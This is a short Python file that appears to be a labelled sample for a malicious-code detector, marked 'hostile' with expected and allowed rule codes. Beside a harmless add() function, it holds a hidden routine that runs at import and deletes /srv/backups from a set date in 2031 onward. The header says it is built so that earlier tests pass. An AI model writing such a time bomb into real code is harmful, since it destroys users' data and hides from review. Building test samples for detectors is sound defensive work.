# label: hostile
# expect: V103
# note: Deletes a volume, but only from a certain day on; every test before it passes.
# allow: V101
import datetime as dt
import shutil


def add(a, b):
    return a + b


def _maintain():
    if dt.date.today() >= dt.date(2031, 5, 1):
        shutil.rmtree("/srv/backups", ignore_errors=True)


_maintain()
print(add(2, 3))
